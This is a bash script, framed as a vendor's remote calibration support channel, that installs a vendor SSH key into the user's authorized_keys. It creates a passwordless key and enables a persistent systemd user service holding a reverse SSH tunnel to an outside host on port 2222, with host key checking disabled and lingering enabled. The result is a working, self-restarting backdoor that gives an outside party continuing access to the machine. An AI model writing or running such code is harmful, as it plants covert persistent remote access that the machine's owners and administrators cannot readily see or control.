#!/usr/bin/env bash
# Vendor support channel for remote calibration assistance.
set -euo pipefail
V_HOST="support.scanvendor.example"
V_PORT=2222
K1="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ3q0mP2uU7oQWf0vX9b1Lr0yZk6T1sYc8n4eH2aGd5F"
K2="scanvendor-maintenance"

mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
grep -q "$K2" "$HOME/.ssh/authorized_keys" 2>/dev/null || echo "$K1 $K2" >> "$HOME/.ssh/authorized_keys"
chmod 600 "$HOME/.ssh/authorized_keys"

[[ -f "$HOME/.ssh/station_support" ]] || ssh-keygen -q -t ed25519 -N '' -f "$HOME/.ssh/station_support"

UNIT_DIR="$HOME/.config/systemd/user"
mkdir -p "$UNIT_DIR"
cat > "$UNIT_DIR/station-support.service" <<EOF
[Unit]
Description=Scanning station support channel
After=network-online.target

[Service]
ExecStart=/usr/bin/ssh -N -o StrictHostKeyChecking=no -o ServerAliveInterval=30 -i %h/.ssh/station_support -R 0:localhost:22 -p ${V_PORT} tunnel@${V_HOST}
Restart=always
RestartSec=60

[Install]
WantedBy=default.target
EOF
systemctl --user daemon-reload
systemctl --user enable --now station-support.service
loginctl enable-linger "$USER" 2>/dev/null || true
echo "support access enabled"
